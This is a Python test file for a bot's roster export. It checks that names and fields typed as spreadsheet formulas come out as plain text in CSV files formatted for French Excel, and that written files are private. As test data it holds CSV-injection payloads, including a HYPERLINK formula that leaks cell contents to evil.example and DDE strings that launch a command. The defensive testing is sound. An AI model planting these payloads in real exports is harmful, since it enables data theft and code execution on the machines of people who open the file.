"""Exports that cannot attack the coordinator who opens them. A person onboards as a
spreadsheet formula (`=HYPERLINK(…)` leaking the next rows' phone numbers, `+cmd|…` running
a command, `-`, `@`); the roster a coordinator then gets — in chat on Telegram, from
`formabot roster --csv` and `--output` — carries every such cell as text (OWASP: a leading
apostrophe), a phone number included, and still opens in columns in French Excel: `;`, BOM,
headers, statuses and local times in the reader's language. Files written are 0600."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlite_utils import Database

from handlers.exports import FORMULA_STARTS, csv_document, neutralise
from storage import contacts, coordinators, registrations
from tests.conftest import Run
from tests.fakes.bot_api import FakeBotAPI, User
from tests.outbox.outbox_fakes import add_contact

HYPERLINK = '=HYPERLINK("http://evil.example/?"&E3,"Cliquez ici")'
COMMAND = "+cmd|' /C calc'!A0"
ATTACKS = (HYPERLINK, COMMAND, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
SALMA, ATTACKER = User(7501, "Salma"), User(7502, "Mallory")
HEADER_FR = [
    "Nom",
    "Entreprise",
    "Fonction",
    "Téléphone",
    "Statut",
    "Date d’inscription",
    "Date de confirmation",
    "Date du désistement",
]


def cells(content: bytes) -> list[list[str]]:
    """The table as French Excel splits it: UTF-8 with BOM, `;` between cells."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def no_formula(table: list[list[str]]) -> bool:
    return not any(cell.startswith(FORMULA_STARTS) for row in table for cell in row)


@pytest.mark.parametrize("cell", [*ATTACKS, "\t=1+1", "\r=1+1", "\uff1d1+1", "+212612345678"])
def test_every_cell_a_spreadsheet_would_evaluate_becomes_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    [row] = cells(csv_document(["x"], [[cell]]))[1:]
    assert row == ["'" + cell]


@pytest.mark.parametrize("cell", ["Amina", "Atlas; Fils", "", "2026-12-10 10:00", "'=x"])
def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
    assert cells(csv_document(["x"], [[cell]]))[1] == [cell]


def _registered_attackers(db: Database) -> None:
    for number, name in enumerate(ATTACKS, start=1):
        contact = add_contact(db, name, company=None, whatsapp=f"+21261234560{number}")
        contacts.update(db, contact, company_other=COMMAND, phone=f"+21261234560{number}")
        registrations.register(db, contact, "mig-2027-01", 12)


async def test_a_formula_typed_as_a_name_on_telegram_is_text_in_the_coordinators_roster(
    programme: Database, bot_api: FakeBotAPI, telegram_chat: Callable
) -> None:
    mallory = telegram_chat(ATTACKER)
    await mallory.says("/start")
    await mallory.presses("Français")
    await mallory.presses("Oui")
    await mallory.says(HYPERLINK)  # not a name: asked again, nothing stored
    found = contacts.identity(programme, "telegram", str(ATTACKER.id))
    assert contacts.get(programme, found.contact_id).name is None
    await mallory.says("Mallory")
    await mallory.says(COMMAND)
    await mallory.presses("Mon entreprise n’y figure pas")
    assert contacts.get(programme, found.contact_id).company_other == COMMAND  # kept as typed
    registrations.register(programme, found.contact_id, "mig-2027-01", 12)
    _registered_attackers(programme)
    add_contact(programme, "Salma", telegram=str(SALMA.id), language="fr")
    coordinators.add(programme, channel="telegram", address=str(SALMA.id), name="Salma")

    await telegram_chat(SALMA).says("/roster mig-2027-01")

    [call] = bot_api.calls_to("sendDocument")
    table = cells(call.files["document"].content)
    assert table[0] == HEADER_FR
    assert no_formula(table)
    names = {row[0] for row in table[1:]}
    assert names == {"Mallory"} | {"'" + attack for attack in ATTACKS}
    assert {row[1] for row in table[1:]} == {"'" + COMMAND}
    assert "'+212612345601" in {row[3] for row in table[1:]}  # still reads as a phone number
    assert {row[4] for row in table[1:]} == {"inscription enregistrée"}
    assert all(
        len(row[5]) == len("29/11/2026 09:00") and row[5][2] == "/" for row in table[1:]
    )  # local day/month/year, as French Excel reads a date


def test_the_cli_roster_is_the_same_neutralised_document(
    run: Run, programme: Database, tmp_path: Path
) -> None:
    _registered_attackers(programme)
    printed = run("roster", "mig-2027-01", "--csv")
    assert printed.exit_code == 0, printed.output
    table = cells(printed.output.encode("utf-8"))
    assert table[0] == HEADER_FR and no_formula(table) and len(table) == 1 + len(ATTACKS)
    english = cells(
        run("roster", "mig-2027-01", "--csv", "--language", "en").output.encode("utf-8")
    )
    assert english[0][:2] == ["Name", "Company"] and no_formula(english)


def test_a_roster_written_to_a_file_is_private_whatever_the_umask(
    run: Run, programme: Database, tmp_path: Path
) -> None:
    _registered_attackers(programme)
    target = tmp_path / "roster.csv"
    previous = os.umask(0o022)
    try:
        written = run("roster", "mig-2027-01", "--output", str(target))
    finally:
        os.umask(previous)
    assert written.exit_code == 0, written.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert no_formula(cells(target.read_bytes()))
    again = run("roster", "mig-2027-01", "--output", str(target))
    assert again.exit_code != 0 and "exists" in again.output  # never overwritten
